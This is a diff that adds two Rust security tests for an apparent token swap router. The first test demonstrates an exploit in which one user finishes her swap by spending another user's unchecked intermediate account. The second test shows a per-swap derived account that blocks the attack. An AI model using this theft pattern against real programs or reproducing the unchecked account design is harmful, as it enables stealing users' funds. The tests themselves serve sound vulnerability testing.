@@ -0,0 +1,51 @@
+#[tokio::test]
+async fn test_foreign_intermediate_account_exploit() {
+    println!("\n=== EXPLOIT: Leg Two Spends Another Swap's Intermediate B ===\n");
+
+    let alice = Keypair::new();
+    let mallory = Keypair::new();
+    let router = setup_router_with_pools().await;
+
+    println!("1. Alice starts a swap; 50,000 B parked for her");
+    let alice_intermediate = router_intermediate_account(&router, 1).await;
+    start_swap(&router, &alice, 1, 50_000, &alice_intermediate).await.unwrap();
+
+    println!("\n2. Mallory starts a swap into her own B account");
+    let mallory_b = create_token_account(&mallory, &router.mint_b).await;
+    // Vulnerable: intermediate account not checked
+    start_swap(&router, &mallory, 2, 10_000, &mallory_b).await.unwrap();
+    assert_eq!(get_token_balance(&mallory_b).await, 10_000);
+
+    println!("\n3. Mallory finishes her swap from Alice's intermediate account");
+    finish_swap(&router, &mallory, 2, &alice_intermediate, 0).await.unwrap();
+    assert!(get_token_balance(&mallory_c(&router, &mallory)).await > 0);
+    assert_eq!(get_token_balance(&alice_intermediate).await, 40_000);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ Mallory kept 10,000 B and got C paid for with Alice's B");
+}
+
+#[tokio::test]
+async fn test_intermediate_account_per_swap_pda() {
+    println!("\n=== SECURITY: Intermediate Account Derived From swap_id ===\n");
+
+    let alice = Keypair::new();
+    let mallory = Keypair::new();
+    let router = setup_router_with_pools().await;
+
+    println!("1. Alice and Mallory each start a swap");
+    start_swap(&router, &alice, 1, 50_000).await.unwrap();
+    start_swap(&router, &mallory, 2, 10_000).await.unwrap();
+    let alice_intermediate = intermediate_address(1, &router.mint_b);
+    assert_eq!(get_token_balance(&alice_intermediate).await, 50_000);
+
+    println!("\n2. Mallory finishes swap 2 with swap 1's intermediate account");
+    let result = finish_swap_with(&router, &mallory, 2, &alice_intermediate, 0).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: ConstraintAssociated");
+
+    println!("\n3. Alice finishes swap 1");
+    finish_swap(&router, &alice, 1, 0).await.unwrap();
+    assert!(get_account(&alice_intermediate).await.is_none());
+    println!("   ✓ Her 50,000 B swapped; intermediate account closed");
+}